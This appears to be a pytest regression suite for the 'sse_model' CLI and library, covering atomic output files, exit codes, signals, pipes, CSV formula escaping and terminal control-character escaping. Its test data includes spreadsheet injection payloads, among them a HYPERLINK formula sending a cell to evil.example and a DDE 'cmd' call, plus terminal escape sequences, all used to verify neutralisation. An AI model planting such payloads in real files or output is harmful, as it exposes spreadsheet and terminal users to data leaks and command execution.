"""Safe outputs: files that appear only when complete, honest exit codes, pipes read once,
cells a spreadsheet cannot run and text a terminal cannot obey.

Each test class turns one defect of the reliability report (D1, D3, D6, D9, D18, D19,
D20, D23, D24, D27) into a regression test.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import sse_model
from sse_model import (
    Classifier,
    Organisation,
    UnreadableInput,
    from_json,
    write_rejected,
    write_results,
)
from sse_model._cli import main, printable
from sse_model._io._flat import RejectedRow
from sse_model._io._outputs import FORMULA_STARTS, AtomicOutput, escape_formula

EXAMPLES = Path(__file__).parent.parent / "examples"
ON = date(2025, 6, 30)
FORMULA_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out, err)
    return code, out.getvalue(), err.getvalue()


def _env(tmp_path: Path) -> dict[str, str]:
    """The environment of a child `sse-model`: this checkout's package, temporary files
    under *tmp_path* (so that leftovers can be counted)."""
    src = str(Path(sse_model.__file__).resolve().parent.parent)
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([src, env.get("PYTHONPATH", "")])
    env["TMPDIR"] = str(tmp_path / "tmp")
    (tmp_path / "tmp").mkdir(exist_ok=True)
    return env


def _cli(*argv: str) -> list[str]:
    return [sys.executable, "-m", "sse_model._cli", *argv]


def _leftovers(*dirs: Path) -> list[str]:
    """Temporary files (ours or spooled inputs) still on disk."""
    return sorted(
        p.name
        for d in dirs
        for p in d.iterdir()
        if p.name.endswith(".tmp") or p.name.startswith("sse-model-copy-of-")
    )


def _csv_register(path: Path, rows: int) -> Path:
    with path.open("w", encoding="utf-8") as f:
        f.write("id,name,country\n")
        f.writelines(f"id{i},Name {i},FR\n" for i in range(rows))
    return path


def _orgs(ids: list[str]) -> list[Organisation]:
    return [
        from_json(json.dumps({"id": i, "name": "N", "country": "FR"}), Organisation) for i in ids
    ]


def _results(n: int) -> list[Any]:
    c = Classifier()
    return [c.classify(o, "intl/ilo-2022", on=ON) for o in _orgs([f"o{i}" for i in range(n)])]


def _failing(results: list[Any], exc: BaseException) -> Iterator[Any]:
    yield from results
    raise exc


class TestAtomicOutput:
    """One helper writes every output under a temporary name and renames it at the end."""

    def test_commit_and_abort(self, tmp_path: Path) -> None:
        """A committed file replaces the destination; an aborted one leaves it untouched
        and no temporary file behind."""
        dest = tmp_path / "out.csv"
        dest.write_text("previous results\n", encoding="utf-8")

        def half_then_fail() -> None:
            with AtomicOutput(dest) as out:
                assert out.file is not None
                out.file.write("half")
                assert dest.read_text(encoding="utf-8") == "previous results\n"
                raise RuntimeError

        with pytest.raises(RuntimeError):
            half_then_fail()
        assert dest.read_text(encoding="utf-8") == "previous results\n"
        with AtomicOutput(dest) as out:
            assert out.file is not None
            out.file.write("new\n")
        assert dest.read_text(encoding="utf-8") == "new\n"
        assert _leftovers(tmp_path) == []

    def test_mode_link_and_device(self, tmp_path: Path) -> None:
        """An existing file keeps its permissions; a symbolic link keeps pointing at the
        replaced file; /dev/null is written in place; a directory is refused."""
        dest = tmp_path / "out.csv"
        dest.write_text("x", encoding="utf-8")
        dest.chmod(0o640)
        link = tmp_path / "link.csv"
        link.symlink_to(dest)
        with AtomicOutput(link) as out:
            assert out.file is not None
            out.file.write("y")
        assert link.is_symlink() and dest.read_text(encoding="utf-8") == "y"
        assert dest.stat().st_mode & 0o777 == 0o640
        if os.path.exists(os.devnull):
            with AtomicOutput(os.devnull) as out:
                assert out.in_place
        with pytest.raises(IsADirectoryError):
            AtomicOutput(tmp_path)
        assert _leftovers(tmp_path) == []


class TestLibraryWriters:
    """write_results, write_rejected, ResultWriter and classify_file given a path (D3)."""

    @pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
    @pytest.mark.parametrize("exc", [RuntimeError("boom"), KeyboardInterrupt()])
    def test_failed_write_leaves_nothing(
        self, tmp_path: Path, fmt: str, exc: BaseException
    ) -> None:
        """A failure or Ctrl-C in the middle of write_results leaves an existing file as it
        was and a new one absent (Parquet: no footer, so no readable part)."""
        if fmt == "parquet":
            pytest.importorskip("pyarrow")
        kept, new = tmp_path / f"kept.{fmt}", tmp_path / f"new.{fmt}"
        kept.write_bytes(b"previous")
        for dest in (kept, new):
            with pytest.raises(type(exc)):
                write_results(_failing(_results(3), exc), dest, criteria=[])
        assert kept.read_bytes() == b"previous" and not new.exists()
        assert _leftovers(tmp_path) == []
        assert write_results(_results(3), new, criteria=[]) == 3 and new.exists()

    def test_parquet_to_an_open_file_only_on_success(self, tmp_path: Path) -> None:
        """Parquet to an open binary file receives bytes only once complete."""
        pytest.importorskip("pyarrow")
        sink = io.BytesIO()
        with pytest.raises(RuntimeError):
            write_results(_failing(_results(2), RuntimeError()), sink, format="parquet")
        assert sink.getvalue() == b""
        write_results(_results(2), sink, format="parquet")
        assert sink.getvalue()[-4:] == b"PAR1"

    def test_write_rejected(self, tmp_path: Path) -> None:
        """write_rejected to a path is atomic too."""
        dest = tmp_path / "errors.jsonl"
        dest.write_text("kept\n", encoding="utf-8")
        row = RejectedRow(1, "a", (), {"id": "a"})
        with pytest.raises(RuntimeError):
            write_rejected(_failing([row], RuntimeError()), dest)
        assert dest.read_text(encoding="utf-8") == "kept\n"
        assert write_rejected([row], dest) == 1
        assert json.loads(dest.read_text(encoding="utf-8"))["row"] == 1

    @pytest.mark.parametrize("suffix", [".csv", ".parquet"])
    def test_result_writer_abort(self, tmp_path: Path, suffix: str) -> None:
        """ResultWriter leaves nothing when its block fails after some chunks."""
        pytest.importorskip("pyarrow")
        from sse_model._io._batch import RegisterClassifier, ResultWriter

        rc = RegisterClassifier("intl/ilo-2022", on=ON)
        import pyarrow as pa

        table = rc.classify_table(
            pa.table({"id": ["a", "b"], "name": ["A", "B"], "country": ["FR", "FR"]})
        ).table
        dest = tmp_path / f"out{suffix}"

        def chunk_then_interrupt() -> None:
            with ResultWriter(dest) as w:
                w.write(table)
                raise KeyboardInterrupt

        with pytest.raises(KeyboardInterrupt):
            chunk_then_interrupt()
        assert not dest.exists() and _leftovers(tmp_path) == []

    def test_classify_file_fails_late(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A register that turns out unreadable after chunks were written leaves neither
        the output nor the errors file, and existing ones untouched."""
        pytest.importorskip("pyarrow")
        import sse_model._io._batch as batch

        monkeypatch.setattr(batch, "CSV_CHUNK", 256)
        src = tmp_path / "r.csv"
        lines = "".join(f"id{i},N,XX\n" for i in range(200))  # XX: every row rejected
        src.write_bytes(b"id,name,country\n" + lines.encode() + b"late,Caf\xe9,FR\n")
        out, errors = tmp_path / "out.parquet", tmp_path / "errors.jsonl"
        errors.write_text("kept\n", encoding="utf-8")
        with pytest.raises(UnreadableInput):
            batch.classify_file(src, "intl/ilo-2022", output=out, errors=errors, on=ON)
        assert not out.exists() and errors.read_text(encoding="utf-8") == "kept\n"
        assert _leftovers(tmp_path) == []

    @pytest.mark.parametrize("fmt", ["parquet", "csv", "jsonl"])
    def test_truncated_gzip(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
    ) -> None:
        """A .csv.gz cut short (D3): exit 2 with UnreadableInput's message in both lanes,
        the previous output intact, no readable part of the results anywhere."""
        import gzip

        pytest.importorskip("pyarrow")
        import sse_model._io._batch as batch

        monkeypatch.setattr(batch, "CSV_CHUNK", 4096)
        data = gzip.compress(_csv_register(tmp_path / "r.csv", 5000).read_bytes())
        src = tmp_path / "trunc.csv.gz"
        src.write_bytes(data[: len(data) * 2 // 3])
        out = tmp_path / f"out.{fmt}"
        out.write_bytes(b"previous")
        code, _, err = run("classify", str(src), "--format", fmt, "--output", str(out))
        assert code == 2 and "cannot read" in err and "ended before" in err, err
        assert out.read_bytes() == b"previous" and _leftovers(tmp_path) == []

    def test_classify_file_refuses_the_input(self, tmp_path: Path) -> None:
        """classify_file refuses an output or errors file that is the source (also through
        hard and symbolic links), or both the same file, before reading anything."""
        pytest.importorskip("pyarrow")
        from sse_model import classify_file

        src = _csv_register(tmp_path / "r.csv", 3)
        before = src.read_bytes()
        hard, soft = tmp_path / "hard.csv", tmp_path / "soft.csv"
        os.link(src, hard)
        soft.symlink_to(src)
        for kwargs in (
            {"output": src},
            {"output": hard},
            {"output": soft},
            {"output": tmp_path / "o.csv", "errors": src},
            {"output": tmp_path / "o.csv", "errors": tmp_path / "o.csv"},
        ):
            with pytest.raises(UnreadableInput, match=r"the input itself|the same file"):
                classify_file(src, "intl/ilo-2022", on=ON, **kwargs)  # type: ignore[arg-type]
        assert src.read_bytes() == before and not (tmp_path / "o.csv").exists()


class TestLoneSurrogate:
    """A lone surrogate that reaches a writer leaves no partial file (D9, output side)."""

    @pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
    def test_writer_leaves_nothing(self, tmp_path: Path, fmt: str) -> None:
        """A result whose id cannot be encoded fails the write; no file is left."""
        import attrs

        if fmt == "parquet":
            pytest.importorskip("pyarrow")
        results = _results(3)
        results[2] = attrs.evolve(results[2], organisation_id="\ud800")
        dest = tmp_path / f"o.{fmt}"
        with pytest.raises((UnicodeEncodeError, ValueError)):
            write_results(results, dest, criteria=[])
        assert not dest.exists() and _leftovers(tmp_path) == []

    @pytest.mark.parametrize("fmt", ["csv", "jsonl", "json", "parquet"])
    def test_cli(self, tmp_path: Path, fmt: str) -> None:
        """`\\ud800` in an id: the row is rejected (exit 1), or, if it ever reaches a
        writer, exit 3 with no output file; never a partial file or a traceback."""
        if fmt == "parquet":
            pytest.importorskip("pyarrow")
        src = tmp_path / "sur.jsonl"
        src.write_text(
            '{"id": "ok", "name": "N", "country": "FR"}\n'
            '{"id": "\\ud800", "name": "N", "country": "FR"}\n',
            encoding="utf-8",
        )
        out = tmp_path / f"o.{fmt}"
        code, _, err = run("classify", str(src), "--format", fmt, "--output", str(out))
        assert "Traceback" not in err
        if code == 3:
            assert not out.exists() and "internal error" in err
        else:
            assert code == 1 and out.exists() and "row 2" in err, err
        assert _leftovers(tmp_path) == []


class TestSameFile:
    """The CLI refuses an --output or --errors that is the input (D1)."""

    @pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "table"])
    def test_output_is_the_input(self, tmp_path: Path, fmt: str) -> None:
        """--output naming the input, a hard link or a symbolic link to it: exit 2 and
        the input unchanged."""
        src = _csv_register(tmp_path / "r.csv", 10)
        before = src.read_bytes()
        hard, soft = tmp_path / "hard.csv", tmp_path / "soft.csv"
        os.link(src, hard)
        soft.symlink_to(src)
        for target in (src, hard, soft):
            code, _, err = run("classify", str(src), "--format", fmt, "--output", str(target))
            assert code == 2 and "is the input itself" in err, err
        assert src.read_bytes() == before

    def test_errors_is_the_input_or_the_output(self, tmp_path: Path) -> None:
        """validate/classify --errors naming the input, or the same file as --output."""
        src = tmp_path / "r.jsonl"
        src.write_bytes((EXAMPLES / "sample-register.jsonl").read_bytes())
        before = src.read_bytes()
        code, _, err = run("validate", str(src), "--errors", str(src))
        assert code == 2 and "--errors" in err
        out = str(tmp_path / "o.jsonl")
        code, _, err = run(
            "classify", str(src), "--format", "jsonl", "--output", out, "--errors", out
        )
        assert code == 2 and "the same file" in err
        assert src.read_bytes() == before and not Path(out).exists()


class TestChecksFirst:
    """Options are checked before any file is opened or a byte written (D23, D24, D27)."""

    def test_no_version_in_force_keeps_the_output(self, tmp_path: Path) -> None:
        """No version in force on --on: exit 2, the old output intact, stdout empty."""
        keep = tmp_path / "keep.jsonl"
        keep.write_text("previous results\n", encoding="utf-8")
        reg = str(EXAMPLES / "sample-register.jsonl")
        code, _, err = run(
            "classify", reg, "--on", "2001-01-01", "--format", "jsonl", "--output", str(keep)
        )
        assert code == 2 and "no version in force" in err
        assert keep.read_text(encoding="utf-8") == "previous results\n"
        code, out, _ = run("classify", reg, "--on", "2001-01-01", "--format", "json")
        assert code == 2 and out == ""

    @pytest.mark.parametrize("year", ["3000000000", "-5", "0", "999", "10000", "2024.5"])
    def test_fiscal_year_range(self, year: str, capsys: pytest.CaptureFixture[str]) -> None:
        """--fiscal-year outside 1000..9999 is a usage error in every lane."""
        for fmt in ("csv", "json"):
            with pytest.raises(SystemExit) as e:
                main(
                    [
                        "classify",
                        str(EXAMPLES / "sample-register.jsonl"),
                        f"--fiscal-year={year}",
                        "--format",
                        fmt,
                    ]
                )
            assert e.value.code == 2
            assert "expected a year from 1000 to 9999" in capsys.readouterr().err

    @pytest.mark.parametrize("encoding", ["rot13", "base64", "hex", "zlib", "nope"])
    def test_non_text_encoding(self, tmp_path: Path, encoding: str) -> None:
        """A codec that is not a text encoding is a usage error in both lanes."""
        src = _csv_register(tmp_path / "r.csv", 2)
        for argv in (
            ("validate",),
            ("classify", "--format", "csv"),
            ("classify", "--format", "json"),
        ):
            code, out, err = run(*argv[:1], str(src), *argv[1:], "--encoding", encoding)
            assert code == 2 and "expected a text encoding" in err and out == "", err

    def test_utf16_without_bom(self, tmp_path: Path) -> None:
        """utf-16 on a file without a byte-order mark: UnreadableInput naming utf-16-le/-be,
        in both lanes and in the library's stream_file."""
        pytest.importorskip("pyarrow")
        src = _csv_register(tmp_path / "r.csv", 2)
        for argv in (
            ("validate",),
            ("classify", "--format", "csv"),
            ("classify", "--format", "json"),
        ):
            code, _, err = run(*argv[:1], str(src), *argv[1:], "--encoding", "utf-16")
            assert code == 2 and "byte-order mark" in err and "utf-16-le" in err, err
        from sse_model._io._batch import RegisterClassifier, stream_file

        with pytest.raises(UnreadableInput, match="byte-order mark"):
            next(stream_file(RegisterClassifier("intl/ilo-2022", on=ON), src, encoding="utf-16"))
        (tmp_path / "le.csv").write_bytes("id,name,country\na,A,FR\n".encode("utf-16"))
        assert run("validate", str(tmp_path / "le.csv"), "--encoding", "utf-16")[0] == 0

    def test_currency(self, tmp_path: Path) -> None:
        """--currency must be an ISO 4217 code (any case), checked before reading."""
        src = _csv_register(tmp_path / "r.csv", 2)
        for bad in ("$", "€", "#", "'", "EURO"):
            code, _, err = run("classify", str(src), "--currency", bad, "--format", "csv")
            assert code == 2 and "ISO 4217" in err
        assert run("classify", str(src), "--currency", "vnd", "--on", "2025-06-30")[0] == 0


class TestExitCodes:
    """0, 1 and 2 as before; 3 for a bug, 130 for Ctrl-C, 141 for a closed stdout (D20)."""

    def test_internal_error(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        """An unexpected exception exits 3 with one line and a hint; --debug and
        SSE_MODEL_DEBUG=1 add the traceback; no output file is left."""
        import sse_model._cli as cli

        def broken(*args: Any, **kwargs: Any) -> Iterator[Any]:
            raise ZeroDivisionError("division by zero")
            yield

        monkeypatch.setattr(cli, "_classify_rows", broken)
        reg, out = str(EXAMPLES / "sample-register.jsonl"), str(tmp_path / "o.jsonl")
        code, _, err = run("classify", reg, "--format", "jsonl", "--output", out)
        assert code == 3
        assert (
            err.splitlines()[0] == "sse-model: internal error: ZeroDivisionError: division by zero"
        )
        assert "please report it" in err and "--debug" in err and "Traceback" not in err
        assert not Path(out).exists() and _leftovers(tmp_path) == []
        code, _, err = run("--debug", "classify", reg, "--format", "jsonl")
        assert code == 3 and "Traceback" in err
        monkeypatch.setenv("SSE_MODEL_DEBUG", "1")
        assert "Traceback" in run("classify", reg, "--format", "jsonl")[2]

    def test_ctrl_c_in_process(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        """KeyboardInterrupt mid-run: exit 130, one line, the previous output intact."""
        import sse_model._cli as cli

        def interrupted(*args: Any, **kwargs: Any) -> None:
            raise KeyboardInterrupt  # once the first chunk is classified (JSON Lines too)

        monkeypatch.setattr(cli, "_tally_table", interrupted)
        keep = tmp_path / "keep.csv"
        keep.write_text("previous\n", encoding="utf-8")
        errors = tmp_path / "errors.jsonl"
        code, _, err = run(
            "classify", str(EXAMPLES / "sample-register.jsonl"), "--format", "csv",
            "--output", str(keep), "--errors", str(errors),
        )  # fmt: skip
        assert code == 130 and err.strip().count("\n") == 0 and "interrupted" in err
        assert keep.read_text(encoding="utf-8") == "previous\n" and not errors.exists()
        assert _leftovers(tmp_path) == []

    @pytest.mark.skipif(os.name != "posix", reason="EPIPE as on POSIX")
    def test_broken_pipe(self, tmp_path: Path) -> None:
        """A reader that closes stdout early: exit 141 and nothing on stderr."""
        src = _csv_register(tmp_path / "r.csv", 20_000)
        for fmt in ("csv", "jsonl"):
            with subprocess.Popen(
                _cli("classify", str(src), "--on", "2025-06-30", "--format", fmt),
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                env=_env(tmp_path),
            ) as p:
                assert p.stdout is not None and p.stderr is not None
                p.stdout.read(100)
                p.stdout.close()
                err = p.stderr.read().decode()
                assert p.wait(timeout=120) == 141 and err == "", err


@pytest.mark.skipif(os.name != "posix", reason="POSIX signals")
class TestSignals:
    """Ctrl-C (SIGINT) and SIGTERM during a run leave no file and exit 130 / 143 (D3, D20)."""

    @pytest.mark.parametrize(
        ("sig", "fmt", "code"),
        [
            (signal.SIGINT, "parquet", 130),
            (signal.SIGTERM, "csv", 143),
            (signal.SIGTERM, "jsonl", 143),
        ],
    )
    def test_signal_mid_run(self, tmp_path: Path, sig: int, fmt: str, code: int) -> None:
        """The signal arrives once the temporary output exists: one line on stderr, the
        previous output and errors files intact, no temporary file left."""
        if fmt == "parquet":
            pytest.importorskip("pyarrow")
        src = tmp_path / "r.jsonl"
        with src.open("w", encoding="utf-8") as f:
            f.writelines(
                json.dumps({"id": f"id{i}", "name": "N", "country": "FR" if i % 7 else "XX"})
                + "\n"
                for i in range(40_000)
            )
        out, errors = tmp_path / f"out.{fmt}", tmp_path / "errors.jsonl"
        out.write_bytes(b"previous")
        errors.write_bytes(b"previous")
        p = subprocess.Popen(
            _cli("classify", str(src), "--on", "2025-06-30", "--format", fmt,
                 "--output", str(out), "--errors", str(errors)),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            env=_env(tmp_path),
        )  # fmt: skip
        deadline = time.monotonic() + 60
        while not any(n.startswith(f".out.{fmt}.") for n in os.listdir(tmp_path)):
            assert p.poll() is None and time.monotonic() < deadline, "no temporary output"
            time.sleep(0.02)
        time.sleep(0.2)
        p.send_signal(sig)
        _, err = p.communicate(timeout=60)
        lines = err.decode().splitlines()
        assert p.returncode == code, lines
        assert len(lines) == 1 and "left as they were" in lines[0], lines
        assert out.read_bytes() == b"previous" and errors.read_bytes() == b"previous"
        assert _leftovers(tmp_path, tmp_path / "tmp") == []


class TestDiskFull:
    """A write that fails for lack of space leaves no partial file (D3)."""

    @pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
    def test_file_size_limit(self, tmp_path: Path, fmt: str) -> None:
        """Under a 64 KB file-size limit (as on a full disk) every output format fails
        with exit 2 and leaves neither the file nor a temporary one."""
        resource = pytest.importorskip("resource")
        if fmt == "parquet":
            pytest.importorskip("pyarrow")
        src = _csv_register(tmp_path / "r.csv", 3000)

        def limit() -> None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))

        out = tmp_path / f"out.{fmt}"
        done = subprocess.run(
            _cli("classify", str(src), "--on", "2025-06-30", "--format", fmt, "--output", str(out)),
            capture_output=True, env=_env(tmp_path), preexec_fn=limit, timeout=300, check=False,
        )  # fmt: skip
        assert done.returncode == 2, done.stderr
        assert b"File too large" in done.stderr or b"too large" in done.stderr.lower()
        assert not out.exists() and _leftovers(tmp_path) == []


class TestPipes:
    """A register read from stdin or a pipe is read once: no row is lost (D6)."""

    @pytest.mark.parametrize("fmt", ["csv", "table", "parquet", "jsonl"])
    def test_stdin(self, tmp_path: Path, fmt: str) -> None:
        """'-' (with --input-format) and /dev/stdin on a pipe give every row, in every lane;
        the spooled copy is removed."""
        if fmt == "parquet":
            pytest.importorskip("pyarrow")
        rows = 1000 if fmt == "jsonl" else 20_000
        data = _csv_register(tmp_path / "r.csv", rows).read_bytes()
        for name in ("-", "/dev/stdin") if fmt == "csv" else ("-",):
            if name == "/dev/stdin" and not os.path.exists(name):
                continue
            out = tmp_path / f"o.{fmt}"
            done = subprocess.run(
                _cli("classify", name, "--input-format", "csv", "--on", "2025-06-30",
                     "--format", fmt, "--output", str(out)),
                input=data, capture_output=True, env=_env(tmp_path), timeout=300, check=False,
            )  # fmt: skip
            assert done.returncode == 0, done.stderr
            assert f"rows read: {rows}; classified: {rows}; rejected: 0".encode() in done.stderr
            if fmt == "csv":
                assert out.read_text(encoding="utf-8").count("\n") == rows + 1
            assert _leftovers(tmp_path, tmp_path / "tmp") == []

    def test_gzip_on_stdin_and_format_needed(self, tmp_path: Path) -> None:
        """gzip data on stdin is recognised; '-' without --input-format is a usage error."""
        import gzip

        data = gzip.compress(_csv_register(tmp_path / "r.csv", 100).read_bytes())
        done = subprocess.run(
            _cli("validate", "-", "--input-format", "csv"),
            input=data, capture_output=True, env=_env(tmp_path), timeout=300, check=False,
        )  # fmt: skip
        assert done.returncode == 0 and b"rows read: 100; valid: 100" in done.stderr
        done = subprocess.run(
            _cli("validate", "-"), input=data, capture_output=True, env=_env(tmp_path),
            timeout=300, check=False,
        )  # fmt: skip
        assert done.returncode == 2 and b"needs --input-format" in done.stderr

    def test_fifo(self, tmp_path: Path) -> None:
        """A named pipe read by the columnar lane is copied once: every row counted."""
        if not hasattr(os, "mkfifo"):
            pytest.skip("no FIFOs here")
        fifo = tmp_path / "p.csv"
        os.mkfifo(fifo)
        data = _csv_register(tmp_path / "r.csv", 20_000).read_bytes()
        p = subprocess.Popen(
            _cli("classify", str(fifo), "--on", "2025-06-30", "--format", "csv",
                 "--output", str(tmp_path / "o.csv")),
            stderr=subprocess.PIPE, env=_env(tmp_path),
        )  # fmt: skip
        with open(fifo, "wb") as f:
            f.write(data)
        _, err = p.communicate(timeout=300)
        assert p.returncode == 0 and b"rows read: 20000; classified: 20000" in err, err


class TestFormulas:
    """CSV output neutralises cells a spreadsheet would run as formulas (D18)."""

    @settings(max_examples=300)
    @given(st.text(max_size=20))
    def test_escape_law(self, value: str) -> None:
        """An escaped cell never starts with = + - @ tab or CR, and dropping the added
        quote gives the value back; other cells are unchanged."""
        escaped = escape_formula(value)
        assert not escaped.startswith(FORMULA_STARTS)
        if value.startswith(FORMULA_STARTS):
            assert escaped == "'" + value
        else:
            assert escaped == value

    def test_write_results(self, tmp_path: Path) -> None:
        """Ids that are formulas get a leading ' in write_results CSV; numbers and dates
        do not; JSON Lines keeps them; escape_formulas=False keeps them."""
        c = Classifier()
        results = [
            c.classify(o, "intl/ilo-2022", on=ON, fiscal_year=2024) for o in _orgs(FORMULA_IDS)
        ]
        write_results(results, tmp_path / "o.csv")
        rows = list(
            csv.DictReader(io.StringIO((tmp_path / "o.csv").read_bytes().decode(), newline=""))
        )
        assert [r["organisation_id"] for r in rows] == ["'" + i for i in FORMULA_IDS]
        assert {r["fiscal_year"] for r in rows} == {"2024"} and {r["on"] for r in rows} == {
            "2025-06-30"
        }
        write_results(results, tmp_path / "raw.csv", escape_formulas=False)
        raw = list(
            csv.DictReader(io.StringIO((tmp_path / "raw.csv").read_bytes().decode(), newline=""))
        )
        assert [r["organisation_id"] for r in raw] == FORMULA_IDS
        write_results(results, tmp_path / "o.jsonl")
        lines = (tmp_path / "o.jsonl").read_text(encoding="utf-8").splitlines()
        assert [json.loads(x)["organisation_id"] for x in lines] == FORMULA_IDS

    def test_both_lanes_same_bytes(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """The CLI's columnar lane (CSV in) and row lane (JSON Lines in, the lane made
        to read them as without pyarrow) write the same escaped CSV;
        --no-escape-formulas keeps the cells in both."""
        pytest.importorskip("pyarrow")
        import sse_model._cli as cli

        columnar = cli._columnar_input
        monkeypatch.setattr(
            cli, "_columnar_input", lambda a: None if a.input.suffix == ".jsonl" else columnar(a)
        )
        jsonl, table = tmp_path / "r.jsonl", tmp_path / "r.csv"
        jsonl.write_text(
            "".join(
                json.dumps({"id": i, "name": "=1+1", "country": "FR"}) + "\n" for i in FORMULA_IDS
            ),
            encoding="utf-8",
        )
        with table.open("w", encoding="utf-8", newline="") as f:
            w = csv.writer(f)
            w.writerow(["id", "name", "country"])
            w.writerows([i, "=1+1", "FR"] for i in FORMULA_IDS)
        for extra in ((), ("--no-escape-formulas",)):
            outs = []
            for src in (jsonl, table):
                code, out, err = run(
                    "classify", str(src), "--on", "2025-06-30", "--format", "csv", *extra
                )
                assert code == 0, err
                outs.append(out)
            assert outs[0] == outs[1]
            ids = [r["organisation_id"] for r in csv.DictReader(io.StringIO(outs[0]))]
            assert ids == (FORMULA_IDS if extra else ["'" + i for i in FORMULA_IDS])


class TestTerminalText:
    """Control characters from data are shown escaped on the terminal (D19)."""

    ESC_ID = "x\x1b]0;PWNED\x07\x1b[2J\u202e\nfake line"

    def test_printable(self) -> None:
        """C0, C1, bidi overrides and lone surrogates are escaped; newlines kept on request."""
        assert printable("a\x1b[2Jb\x07\x9b\u202e\ud800") == "a\\x1b[2Jb\\x07\\x9b\\u202e\\ud800"
        assert printable("a\nb\tc", lines=True) == "a\nb\\tc"
        assert printable("a\nb") == "a\\nb"
        assert printable("Coopérative 協同組合") == "Coopérative 協同組合"

    def test_explain(self, tmp_path: Path) -> None:
        """explain, with and without --profile, prints the id escaped, on its own line."""
        src = tmp_path / "esc.jsonl"
        src.write_text(
            json.dumps({"id": self.ESC_ID, "name": "N", "country": "FR"}) + "\n", encoding="utf-8"
        )
        for extra in (("--profile", "intl/ilo-2022"), ()):
            code, out, err = run("explain", str(src), "--on", "2025-06-30", *extra)
            assert code == 0, err
            assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
            assert "x\\x1b]0;PWNED\\x07" in out and "\\nfake line" in out
            assert not any(line.startswith("fake line") for line in out.splitlines())

    def test_rejected_rows_on_stderr(self, tmp_path: Path) -> None:
        """Unknown column names and messages listed on stderr are escaped."""
        src = tmp_path / "r.csv"
        src.write_text("id,name,country,\x1b[2Jevil\nid1,N,FR,1\n", encoding="utf-8")
        for argv in (("validate",), ("classify", "--format", "csv")):
            code, _, err = run(*argv[:1], str(src), *argv[1:])
            assert code in (1, 2)
            assert "\x1b" not in err and "\\x1b[2Jevil" in err, err
